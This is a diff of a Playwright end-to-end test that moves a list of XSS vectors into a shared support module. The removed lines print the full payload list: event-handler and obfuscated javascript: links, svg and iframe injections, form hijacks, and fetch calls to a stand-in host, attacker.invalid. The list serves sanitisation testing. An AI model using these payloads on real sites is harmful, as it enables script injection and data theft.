@@ -2,40 +2,9 @@ import type { Browser, Page } from 'playwright-core';
 import sharp from 'sharp';
 import { useBrowser } from './support/browser';
 import { edge, hc, postArticle, siteWithKey, stack, unique } from './support/stack';
+import { ATTACKER, XSS_VECTORS } from './support/xss-vectors';
 
-const ATTACKER = 'attacker.invalid';
-
-/**
- * Issue #14's vectors, as an article written through the API with `content.write` carries them.
- * Each would show a dialog or reach the attacker's host if anything of it ran.
- */
-const VECTORS = [
-  `<img src=x onerror="alert('img')">`,
-  `<p onmouseover="alert('p')" style="display:block;width:100%;height:200px">hover</p>`,
-  `<body onload="alert('body')">`,
-  `<a id="js1" href="javascript:alert('link')">a</a>`,
-  `<a id="js2" href="JaVaScRiPt:alert('upper')">b</a>`,
-  `<a id="js3" href="java&#x09;script&colon;alert('entity')">c</a>`,
-  `<a id="js4" href="&#106;avascript:alert('decimal')">d</a>`,
-  `<a id="js5" href=" javascript:alert('padded')">e</a>`,
-  `<a id="data" href="data:text/html,<script>alert('data')</script>">f</a>`,
-  `<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>`,
-  `<svg><a xlink:href="javascript:alert('svg-link')"><text x="20" y="20">svg</text></a></svg>`,
-  `<math><maction actiontype="statusline" xlink:href="javascript:alert('math')">m</maction></math>`,
-  `<base href="https://${ATTACKER}/">`,
-  `<meta http-equiv="refresh" content="0;url=https://${ATTACKER}/refresh">`,
-  `<object data="https://${ATTACKER}/object"></object><embed src="https://${ATTACKER}/embed">`,
-  `<iframe src="https://${ATTACKER}/frame"></iframe>`,
-  `<iframe srcdoc="<script>parent.alert('srcdoc')</script>"></iframe>`,
-  `<div style="width:expression(alert('css'));background:url(https://${ATTACKER}/css)">css</div>`,
-  `<style>@import url("https://${ATTACKER}/import.css");</style>`,
-  `<form action="https://${ATTACKER}/form"><input name="q"><button id="go">Go</button></form>`,
-  `<button id="fa" formaction="https://${ATTACKER}/formaction">x</button>`,
-  `<script>alert('script');fetch('https://${ATTACKER}/script')</script>`,
-  `<img src="x" onerror="fetch('https://${ATTACKER}/onerror')">`,
-  `<details open ontoggle="alert('toggle')"><summary>s</summary></details>`,
-  `<video><source onerror="alert('video')"></video>`,
-].join('\n');
+const VECTORS = XSS_VECTORS.join('\n');
 
 /** Opens a reader page, counting dialogs and requests to the attacker's host. */
 async function visit(browser: Browser, url: string) {
